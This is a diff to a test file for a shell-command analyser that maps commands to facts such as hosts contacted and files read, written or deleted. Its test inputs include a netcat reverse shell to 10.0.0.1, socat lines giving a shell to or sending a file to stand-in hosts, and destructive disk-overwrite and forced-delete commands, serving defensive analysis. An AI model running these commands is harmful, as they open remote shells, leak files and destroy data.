@@ -205,9 +205,9 @@ describe('the network', () => {
     ['curl http://[fd00:ec2::254]/a?b=*', ['host fd00:ec2::254 http 80']],
     ['nc -e /bin/sh 10.0.0.1 4444', ['execute /bin/sh', 'host 10.0.0.1 tcp 4444']],
     ['nc evil.example 80', ['host evil.example tcp 80']],
-    ['socat TCP:evil.example:80 EXEC:sh', ['host evil.example 80']],
-    ['socat FILE:f TCP:h.example:1', ['read /w/f', 'write /w/f', 'host h.example 1']],
-    ['socat CREATE:f TCP:h.example:1', ['write /w/f', 'host h.example 1']],
+    ['socat TCP:evil.example:80 EXEC:sh', ['host evil.example tcp 80']],
+    ['socat FILE:f TCP:h.example:1', ['read /w/f', 'write /w/f', 'host h.example tcp 1']],
+    ['socat CREATE:f TCP:h.example:1', ['write /w/f', 'host h.example tcp 1']],
     ['croc send a b', ['read /w/a', 'read /w/b', 'host …']],
     ['croc --pass x send a', ['read /w/a', 'host …']],
     ['wormhole receive 7-a-b', ['host …']],
@@ -236,6 +236,8 @@ describe('archives', () => {
     ['gunzip a.gz', ['read /w/a.gz', 'write /w/a', 'delete /w/a.gz']],
     ['gzip -c a', ['read /w/a']],
     ['7z x a.7z -oout', ['read /w/a.7z', 'write /w/out/**']],
+    ['7z a a.7z b', ['write /w/a.7z', 'read /w/b below']],
+    ['7z a -sdel a.7z b', ['write /w/a.7z', 'read /w/b below', 'delete /w/b below']],
     ['cpio -id', ['write /w/**']],
   ])('%s', (script, facts) => expect(describeFacts(script)).toEqual(facts))
 })
@@ -426,6 +428,19 @@ describe('containers, packages, systems, clouds, databases', () => {
     [
       'frobnicate --out=/etc/x y https://h.example',
       ['maybe touch /etc/x', 'maybe touch /w/y', 'host h.example https 443'],
+    ],
+    ['chattr +i a', ['write /w/a']],
+    ['chattr -R -i a', ['write /w/a below']],
+    ['chattr =ai a b', ['write /w/a', 'write /w/b']],
+    ['partclone.restore -s a.img -o /dev/sda', ['read /w/a.img', 'write /dev/sda']],
+    ["duckdb a.db 'select 1'", ['write /w/a.db', 'code sql select 1']],
+    ["echo 'select 1' | pgcli app", ['code sql select 1']],
+    ["snow sql -q 'select 1'", ['host …', 'code sql select 1']],
+    ['socat - UDP:a.example:99', ['host a.example udp 99']],
+    ['/etc/init.d/ssh stop', ['execute /etc/init.d/ssh']],
+    [
+      "powershell -c 'Remove-Item -Recurse -Force:$true a'",
+      ['delete /w/a below', 'code powershell Remove-Item -Recurse -Force:$true a'],
     ],
   ])('%s', (script, facts) => expect(describeFacts(script)).toEqual(facts))
 })
